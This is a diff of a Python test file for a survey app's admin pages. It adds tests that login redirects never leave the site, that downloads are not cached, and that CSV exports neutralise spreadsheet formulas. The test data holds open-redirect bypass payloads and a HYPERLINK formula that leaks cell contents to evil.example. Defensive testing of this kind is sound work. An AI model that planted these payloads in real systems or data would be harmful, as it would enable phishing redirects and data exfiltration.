@@ -63,13 +63,35 @@ def test_a_wrong_password_is_refused_and_guessing_is_rate_limited(app, client, c
     assert client.get("/admin/").status_code == 302
 
 
-def test_login_goes_back_to_the_page_asked_for_but_never_off_site(app, client, csrf):
+def log_in(client, csrf, query: str = ""):
+    """Post a correct login to ``/admin/login<query>`` and return the response."""
+    data = {"csrf_token": csrf(client, "/admin/login"), "username": "ada", "password": PASSWORD}
+    return client.post(f"/admin/login{query}", data=data)
+
+
+@pytest.mark.parametrize(
+    ("query", "location"),
+    [
+        ("?next=/admin/tokens", "/admin/tokens"),
+        ("?next=%2Fadmin%2F%3Fdata%3Dall", "/admin/?data=all"),
+        ("?next=%2Fadmin%2Ftokens%0A", "/admin/tokens"),  # a browser drops the line break too
+        ("?next=//evil.example/", "/admin/"),
+        ("?next=%2F%09%2Fevil.example%2F", "/admin/"),  # browsers drop the tab: //evil.example/
+        ("?next=%2F%0D%0A%2Fevil.example%2F", "/admin/"),
+        ("?next=%0A", "/admin/"),
+        ("?next=%2F%5Cevil.example%2F", "/admin/"),  # a backslash is a slash to browsers
+        ("?next=%20%2F%2Fevil.example", "/admin/"),
+        ("?next=https:%2F%2Fevil.example%2F", "/admin/"),
+        ("?next=javascript:alert(1)", "/admin/"),
+        ("?next=%2F%00%2Fevil.example", "/admin/"),
+        ("?next=", "/admin/"),
+    ],
+)
+def test_login_goes_back_to_the_page_asked_for_but_never_off_site(app, client, csrf, query, location):
     with app.extensions["socialimp"].sessions.begin() as session:
         users.create(session, "ada", PASSWORD)
-    data = {"csrf_token": csrf(client, "/admin/login"), "username": "ada", "password": PASSWORD}
-    assert client.post("/admin/login?next=/admin/tokens", data=data).headers["Location"] == "/admin/tokens"
-    data["csrf_token"] = csrf(client, "/admin/login")
-    assert client.post("/admin/login?next=//evil.example/", data=data).headers["Location"] == "/admin/"
+    response = log_in(client, csrf, query)
+    assert response.status_code == 302 and response.headers["Location"] == location
 
 
 def test_admin_accounts_need_a_real_password_and_a_new_name(app):
@@ -149,6 +171,7 @@ def test_tokens_are_generated_and_downloaded_as_csv(admin, csrf):
     assert response.status_code == 422 and "Please enter a number from 1 to 10000." in response.get_data(True)
     csv = admin.get("/admin/tokens.csv")
     assert csv.mimetype == "text/csv" and "attachment; filename=tokens_" in csv.headers["Content-Disposition"]
+    assert csv.headers["Cache-Control"] == "no-store"  # invitation links admit whoever holds them
     table = pd.read_csv(io.StringIO(csv.get_data(as_text=True)))
     assert len(table) == 5 and table.link.str.startswith("http://localhost/t/").all()
 
@@ -184,6 +207,7 @@ def test_admin_erases_a_respondent_found_by_receipt_code(app, admin, ins, csrf):
 
 @pytest.mark.parametrize("fmt", ["csv", "sav"])
 def test_export_page_downloads_data_and_codebook(app, admin, fmt, csrf):
+    """Downloads of answers are never kept in a browser's or proxy's cache (Cache-Control: no-store)."""
     seed(app, 5)
     token = csrf(admin, "/admin/export")
     response = admin.post("/admin/export", data={"csrf_token": token, "format": fmt, "data": "real"})
@@ -191,8 +215,18 @@ def test_export_page_downloads_data_and_codebook(app, admin, fmt, csrf):
     assert "There are no real respondents to export yet." in admin.get("/admin/export").get_data(as_text=True)
     response = admin.post("/admin/export", data={"csrf_token": token, "format": fmt, "data": "simulated"})
     assert response.mimetype == "application/zip"
+    assert response.headers["Cache-Control"] == "no-store"
     names = zipfile.ZipFile(io.BytesIO(response.data)).namelist()
     assert len(names) == 2 and names[0].endswith(f".{fmt}") and names[1].endswith("_codebook.csv")
+
+
+def test_the_csv_download_neutralises_formulas(app, admin, taker, csrf):
+    taker.complete({"bld_open": '=HYPERLINK("http://evil.example/?leak="&A1,"click")'})
+    response = admin.post("/admin/export", data={"csrf_token": csrf(admin, "/admin/export"), "format": "csv",
+                                                 "data": "real"})  # fmt: skip
+    bundle = zipfile.ZipFile(io.BytesIO(response.data))
+    data = pd.read_csv(io.BytesIO(bundle.read(bundle.namelist()[0])))
+    assert data["bld_open"][0] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
 def notices(client, url: str = "/admin/") -> list[str]:
@@ -224,7 +258,7 @@ def test_download_report_is_the_fit_of_the_chosen_respondents(app, admin, taker,
     seed(app, 150)
     taker.complete()  # one real respondent, done in under a second: a suspected bot, flagged yet analysed
     response = admin.post("/admin/report", data={"csrf_token": csrf(admin, "/admin/"), "data": "all"})
-    assert response.mimetype == "application/zip"
+    assert response.mimetype == "application/zip" and response.headers["Cache-Control"] == "no-store"
     assert "filename=socialimp_report_all_" in response.headers["Content-Disposition"]
     bundle = zipfile.ZipFile(io.BytesIO(response.data))
     names = set(bundle.namelist())
